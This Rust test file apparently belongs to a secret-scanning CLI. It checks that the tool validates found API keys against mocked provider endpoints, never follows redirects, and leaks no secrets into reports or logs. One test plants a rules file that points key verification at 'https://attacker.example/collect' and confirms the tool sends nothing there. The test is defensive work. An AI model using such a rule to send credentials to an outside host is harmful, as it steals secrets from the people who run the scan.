//! `roster scan --validate`: each distinct secret whose rule declares a read-only endpoint is
//! sent there by the host, and the provider's answer decides `validation` and the severity.
//! One fixture server stands in for the providers, answering in their documented shapes: a
//! model list or a 401 error object (OpenAI), `/user` after a 429 (GitHub), `auth.test` with
//! `ok: false` (Slack), STS GetCallerIdentity's XML (AWS), a 503 (Hugging Face) and a redirect
//! (Anthropic), which is never followed.

use serde_json::{Value, json};
use wiremock::matchers::{body_string_contains, header, header_regex, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::ROSTER;
use roster_testkit::http::ok;
use roster_testkit::{Env, all_bytes_under, contains, fake};

struct Keys {
    openai_live: String,
    openai_revoked: String,
    github: String,
    slack: String,
    aws_id: String,
    aws_secret: String,
    hf: String,
    anthropic: String,
    stripe_test: String,
}

impl Keys {
    fn new() -> Self {
        Keys {
            openai_live: fake::openai_project(),
            openai_revoked: fake::openai_project(),
            github: fake::github_pat(),
            slack: fake::slack_bot(),
            aws_id: fake::aws_key_id(),
            aws_secret: fake::aws_secret(),
            hf: fake::huggingface(),
            anthropic: fake::anthropic(),
            stripe_test: format!("sk_test_{}", fake::b62(24)),
        }
    }

    fn all(&self) -> [&str; 9] {
        [
            &self.openai_live,
            &self.openai_revoked,
            &self.github,
            &self.slack,
            &self.aws_id,
            &self.aws_secret,
            &self.hf,
            &self.anthropic,
            &self.stripe_test,
        ]
    }
}

async fn providers(k: &Keys) -> MockServer {
    let s = MockServer::start().await;
    let bearer = |key: &str| header("authorization", format!("Bearer {key}").as_str());
    Mock::given(method("GET"))
        .and(path("/v1/models"))
        .and(bearer(&k.openai_live))
        .respond_with(ok(json!({"object": "list", "data": [{"id": "gpt-4o", "object": "model", "created": 1715367049, "owned_by": "system"}]})))
        .mount(&s)
        .await;
    Mock::given(method("GET"))
        .and(path("/v1/models"))
        .and(bearer(&k.openai_revoked))
        .respond_with(ResponseTemplate::new(401).set_body_json(json!({"error": {
            "message": "Incorrect API key provided: sk-proj-****abcd.", "type": "invalid_request_error",
            "param": null, "code": "invalid_api_key"}})))
        .mount(&s)
        .await;
    // Throttled once, then served.
    Mock::given(method("GET"))
        .and(path("/gh/user"))
        .respond_with(ResponseTemplate::new(429).insert_header("retry-after", "0"))
        .up_to_n_times(1)
        .with_priority(1)
        .mount(&s)
        .await;
    Mock::given(method("GET"))
        .and(path("/gh/user"))
        .and(bearer(&k.github))
        .and(header("x-github-api-version", "2022-11-28"))
        .respond_with(ok(json!({"login": "ci-bot", "id": 1, "type": "User"})))
        .mount(&s)
        .await;
    Mock::given(method("POST"))
        .and(path("/slack/api/auth.test"))
        .and(bearer(&k.slack))
        .respond_with(ok(json!({"ok": false, "error": "invalid_auth"})))
        .mount(&s)
        .await;
    Mock::given(method("POST"))
        .and(path("/sts/"))
        .and(body_string_contains("Action=GetCallerIdentity"))
        .and(header_regex(
            "authorization",
            &format!("^AWS4-HMAC-SHA256 Credential={}/\\d{{8}}/us-east-1/sts/aws4_request", k.aws_id),
        ))
        .respond_with(
            ResponseTemplate::new(200)
                .insert_header("content-type", "text/xml")
                .set_body_string(
                    "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\">\
                     <GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/ci</Arn>\
                     <UserId>AIDAEXAMPLEUSERID0000</UserId><Account>123456789012</Account>\
                     </GetCallerIdentityResult><ResponseMetadata><RequestId>7a62c49f-347e-4fc4-9331-6e8eEXAMPLE</RequestId>\
                     </ResponseMetadata></GetCallerIdentityResponse>",
                ),
        )
        .mount(&s)
        .await;
    Mock::given(method("GET"))
        .and(path("/hf/api/whoami-v2"))
        .respond_with(ResponseTemplate::new(503))
        .mount(&s)
        .await;
    Mock::given(method("GET"))
        .and(path("/anthropic/v1/models"))
        .and(header("x-api-key", k.anthropic.as_str()))
        .and(header("anthropic-version", "2023-06-01"))
        .respond_with(ResponseTemplate::new(302).insert_header("location", format!("{}/elsewhere", s.uri()).as_str()))
        .mount(&s)
        .await;
    Mock::given(method("GET"))
        .and(path("/elsewhere"))
        .respond_with(ok(json!({"data": []})))
        .mount(&s)
        .await;
    s
}

fn plant(env: &Env, k: &Keys) {
    env.write(
        "app/.env",
        format!("OPENAI_API_KEY={}\nGITHUB_TOKEN={}\n", k.openai_live, k.github),
    );
    env.write(
        "old/settings.py",
        format!("OPENAI_API_KEY = \"{}\"\n", k.openai_revoked),
    );
    env.write(
        "deploy/aws.env",
        format!(
            "AWS_ACCESS_KEY_ID={}\nAWS_SECRET_ACCESS_KEY={}\n",
            k.aws_id, k.aws_secret
        ),
    );
    env.write(
        "bots/config.yaml",
        format!(
            "slack:\n  bot_token: {}\nhf_token: {}\nanthropic_api_key: {}\nstripe_key: {}\n",
            k.slack, k.hf, k.anthropic, k.stripe_test
        ),
    );
    // The same OpenAI key twice: one request for it.
    env.write("app/copy.env", format!("OPENAI_API_KEY={}\n", k.openai_live));
}

fn by_rule<'a>(report: &'a Value, rule: &str) -> Vec<&'a Value> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == rule)
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn validate_asks_each_provider_once_and_follows_its_answer() {
    let k = Keys::new();
    let server = providers(&k).await;
    let env = Env::new(ROSTER);
    plant(&env, &k);
    let uri = server.uri();
    let endpoints = [
        format!("https://api.openai.com={uri}"),
        format!("https://api.github.com={uri}/gh"),
        format!("https://slack.com={uri}/slack"),
        format!("https://sts.amazonaws.com={uri}/sts"),
        format!("https://huggingface.co={uri}/hf"),
        format!("https://api.anthropic.com={uri}/anthropic"),
    ];

    // Without the flag nothing leaves the machine.
    let out = env.roster(&["scan", ".", "--format", "json", "--fail-on", "none"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        server.received_requests().await.unwrap().is_empty(),
        "no request without --validate"
    );
    let plain: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        plain["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f.get("validation").is_none())
    );
    assert!(plain["stats"].get("validation").is_none());

    let mut args = vec!["scan", ".", "--format", "json", "--fail-on", "none", "--validate"];
    for e in &endpoints {
        args.extend(["--validate-endpoint", e.as_str()]);
    }
    let out = env.roster(&args);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();

    let openai = by_rule(&report, "openai.project-key");
    assert_eq!(openai.len(), 3, "{openai:#?}");
    for f in &openai {
        let live = f["path"] != "old/settings.py";
        assert_eq!(f["validation"], if live { "live" } else { "revoked" }, "{f}");
        assert_eq!(f["severity"], if live { "critical" } else { "low" }, "{f}");
        assert_eq!(
            f["validation_detail"],
            if live {
                "HTTP 200 from 127.0.0.1"
            } else {
                "HTTP 401 from 127.0.0.1"
            }
        );
    }
    let gh = &by_rule(&report, "github.classic-pat")[0];
    assert_eq!(gh["validation"], "live", "the 429 was retried: {gh}");
    let slack = &by_rule(&report, "slack.bot-token")[0];
    assert_eq!(slack["validation"], "revoked", "{slack}");
    assert_eq!(slack["severity"], "low");
    // The key id and its secret key are one credential: both carry STS's answer.
    assert_eq!(by_rule(&report, "aws.access-key-id")[0]["validation"], "live");
    assert_eq!(by_rule(&report, "aws.secret-access-key")[0]["validation"], "live");
    assert_eq!(by_rule(&report, "huggingface.access-token")[0]["validation"], "error");
    let anthropic = &by_rule(&report, "anthropic.api-key")[0];
    assert_eq!(anthropic["validation"], "unknown", "{anthropic}");
    assert_eq!(anthropic["validation_detail"], "HTTP 302 from 127.0.0.1");
    let stripe = &by_rule(&report, "stripe.test-secret-key")[0];
    assert!(
        stripe.get("validation").is_none(),
        "no endpoint, nothing sent: {stripe}"
    );

    assert_eq!(
        report["stats"]["validation"],
        json!({"checked": 7, "live": 3, "revoked": 2, "unknown": 1, "error": 1, "not_checkable": 1}),
        "{stderr}"
    );
    assert!(stderr.contains("validated 7 distinct secret(s)"), "{stderr}");

    let got = server.received_requests().await.unwrap();
    let count = |p: &str| got.iter().filter(|r| r.url.path() == p).count();
    assert_eq!(count("/v1/models"), 2, "one request per distinct secret");
    assert_eq!(count("/gh/user"), 2, "a 429 and its retry");
    assert_eq!(count("/elsewhere"), 0, "a redirect is never followed");
    assert_eq!(count("/hf/api/whoami-v2"), 3, "a 503 and its two retries");
    assert!(got.iter().all(|r| matches!(r.method.as_str(), "GET" | "POST")));

    // The audit log has every request, private, and no secret in it or in the outputs.
    let audit = env.state().join("audit.jsonl");
    let log = std::fs::read_to_string(&audit).unwrap();
    let lines: Vec<Value> = log.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 7, "{log}");
    assert!(lines.iter().all(|l| l["source"] == "validate"));
    assert!(
        lines
            .iter()
            .any(|l| l["request"]["auth"] == "AWS SigV4 (sts, us-east-1)"),
        "{log}"
    );
    use std::os::unix::fs::PermissionsExt as _;
    assert_eq!(std::fs::metadata(&audit).unwrap().permissions().mode() & 0o777, 0o600);
    let state = all_bytes_under(&env.state());
    for secret in k.all() {
        assert!(!contains(&out.stdout, secret), "report leaks a secret");
        assert!(!contains(&out.stderr, secret), "stderr leaks a secret");
        assert!(!contains(&state, secret), "state leaks a secret");
    }
}

#[test]
fn a_users_rules_file_cannot_send_secrets_anywhere() {
    let env = Env::new(ROSTER);
    let rules = env.write(
        "mine.toml",
        r#"[[rules]]
id = "acme.token"
name = "Acme token"
regex = '''\b(acme_[a-z0-9]{24})\b'''
keywords = ["acme_"]
examples = ["ACME=acme_q8z3k1x7w2m9r4t6y0p5s8d3", "token: acme_abcdefghijklmnopqrstuvwx"]
negative_examples = ["ACME=acme_short"]

[rules.verify]
url = "https://attacker.example/collect"
auth = "bearer"
live = { status = [200] }
revoked = { status = [401] }
"#,
    );
    env.write("src/a.env", "ACME=acme_q8z3k1x7w2m9r4t6y0p5s8d3\n");
    let out = env.roster(&[
        "scan",
        "src",
        "--rules",
        rules.to_str().unwrap(),
        "--format",
        "json",
        "--fail-on",
        "none",
        "--validate",
    ]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["findings"].as_array().unwrap().len(), 1, "{report}");
    assert!(report["findings"][0].get("validation").is_none());
    assert_eq!(report["stats"]["validation"]["checked"], 0);
    assert_eq!(report["stats"]["validation"]["not_checkable"], 1);
}
